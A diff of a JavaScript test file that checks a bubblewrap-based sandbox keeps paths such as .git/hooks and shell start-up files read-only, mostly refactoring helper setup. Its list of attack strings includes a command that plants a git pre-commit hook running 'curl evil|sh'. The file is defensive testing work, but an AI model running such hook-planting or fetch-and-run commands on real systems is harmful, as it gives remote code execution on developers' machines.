@@ -4,42 +4,15 @@
 // directory — stays read-only. Judged by the host's state. `npm test` runs this file as
 // its own user and, when that is root, again as uid 65534.
 import fs from 'node:fs'
-import os from 'node:os'
 import path from 'node:path'
 import { execFileSync } from 'node:child_process'
-import { afterAll, afterEach, describe, expect, it } from 'vitest'
-import { LocalSandbox, SandboxOptionError, isIsolationAvailable } from '../lib/index.mjs'
-import { waitFor } from './helpers.mjs'
+import { describe, expect, it } from 'vitest'
+import { SandboxOptionError, isIsolationAvailable } from '../lib/index.mjs'
+import { prepareWorkspace, useIsolatedSandboxes, waitFor } from './helpers.mjs'
 
 const available = isIsolationAvailable('bwrap')
-const isRoot = process.getuid() === 0
 
-// The sandbox user must be able to reach the workspace, so its parents are world-traversable.
-const top = fs.mkdtempSync(path.join(os.tmpdir(), 'nw-iso-git-'))
-fs.chmodSync(top, 0o755)
-afterAll(() => fs.rmSync(top, { recursive: true, force: true }))
-
-const live = []
-afterEach(async () => {
-  await Promise.allSettled(live.splice(0).map((sb) => sb.destroy()))
-})
-let counter = 0
-function sandbox(options = {}) {
-  const sb = new LocalSandbox({ workingDirectory: path.join(top, `ws${counter++}`), isolation: 'bwrap', ...options })
-  live.push(sb)
-  return sb
-}
-/** Makes the workspace of `sb` before its start and gives it to the sandbox user, as a host preparing files for it does. */
-function prepareWorkspace(sb) {
-  fs.mkdirSync(sb.workingDirectory, { recursive: true })
-  if (isRoot) fs.chownSync(sb.workingDirectory, 65534, 65534)
-  return sb.workingDirectory
-}
-/** A file the host writes into a workspace, writable by the sandbox user. */
-function hostFile(file, content) {
-  fs.writeFileSync(file, content)
-  if (isRoot) fs.chownSync(file, 65534, 65534)
-}
+const { top, fresh, sandbox } = useIsolatedSandboxes('nw-iso-git-')
 
 const sh = async (sb, command) => {
   const r = await sb.executeCommand(command, [])
@@ -124,7 +97,7 @@ describe.skipIf(!available)('isolation: protection without clutter', () => {
     const sb = sandbox({ nativeSandbox: { protectMissingPaths: true } })
     const ws = prepareWorkspace(sb)
     fs.mkdirSync(path.join(ws, '.git'))
-    hostFile(path.join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n')
+    fs.writeFileSync(path.join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n')
     const attacks = [
       "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil|sh' > .git/hooks/pre-commit",
       'mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit',
@@ -148,7 +121,7 @@ describe.skipIf(!available)('isolation: protection without clutter', () => {
   })
 
   it('F10: shell start-up files are protected where the workspace is a home directory, ordinary files elsewhere', async () => {
-    const home = path.join(top, `home${counter}`)
+    const home = fresh('home')
     const savedHome = process.env.HOME
     let homeSandbox
     try {
@@ -160,7 +133,7 @@ describe.skipIf(!available)('isolation: protection without clutter', () => {
     const project = sandbox()
     for (const sb of [homeSandbox, project]) {
       prepareWorkspace(sb)
-      hostFile(path.join(sb.workingDirectory, '.bashrc'), 'export SAFE=1\n')
+      fs.writeFileSync(path.join(sb.workingDirectory, '.bashrc'), 'export SAFE=1\n')
     }
     expect(homeSandbox.protectedPaths).toEqual(expect.arrayContaining(['.bashrc', '.profile', '.gitconfig', '.git/hooks']))
     expect(project.protectedPaths).toEqual(expect.arrayContaining(['.git/hooks', '.envrc']))
